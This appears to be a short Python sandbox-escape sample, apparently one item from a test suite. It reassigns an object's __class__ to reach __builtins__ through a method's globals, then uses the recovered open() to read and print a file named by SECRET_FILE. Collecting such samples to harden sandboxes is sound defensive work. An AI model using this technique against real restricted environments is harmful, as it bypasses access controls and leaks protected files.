"""
goal: give an object another class, one whose methods reach further
effect: leak
"""

class Mine:
    pass


class Other:
    def show(self):
        return self.show.__func__.__globals__["__builtins__"]


mine = Mine()
mine.__class__ = Other
found = mine.show()
print((found["open"] if isinstance(found, dict) else found.open)(SECRET_FILE).read())
